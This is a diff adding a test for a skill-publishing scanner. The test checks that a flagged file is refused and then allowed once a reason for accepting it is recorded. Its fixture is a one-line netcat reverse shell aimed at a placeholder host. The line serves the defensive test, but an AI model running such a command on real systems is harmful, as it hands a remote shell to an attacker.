@@ -171,6 +171,21 @@ test('one skill with an error refuses all, with file and line, before anything i
   expect(await live('p-good')).toBeNull()
 })
 
+test("an error that can be accepted is the server's to judge: once with a reason, and not again for the same file", async () => {
+  write('p-shell/SKILL.md', md('p-shell'))
+  write('p-shell/a.sh', 'nc a.example.org 1 -e /bin/sh\n')
+  write('p-plain/SKILL.md', md('p-plain'))
+  const refused = await publish(folder, '--yes')
+  expect(refused).toMatchObject({ status: 1, out: expect.stringMatching(/p-shell\/a\.sh:1: .*accept: /) })
+  const idle = await publish(folder, '--yes', '--accept', 'python-reverse-shell=x')
+  expect(idle).toMatchObject({ status: 1, out: expect.stringContaining('refuses nothing here') })
+  const done = await publish(folder, '--yes', '--accept', 'shell-reverse-shell=Taught here')
+  expect(done, done.out).toMatchObject({ status: 0, out: expect.stringContaining('Accepted: Taught here') })
+  write('p-shell/SKILL.md', md('p-shell', 'Another body.'))
+  const again = await publish(folder, '--yes')
+  expect(again, again.out).toMatchObject({ status: 0, out: expect.stringContaining('Accepted: Taught here') })
+})
+
 test('a text that is not UTF-8 refuses all, by the place it came from', async () => {
   write('p-fine/SKILL.md', md('p-fine'))
   write('p-latin/SKILL.md', md('p-latin'))
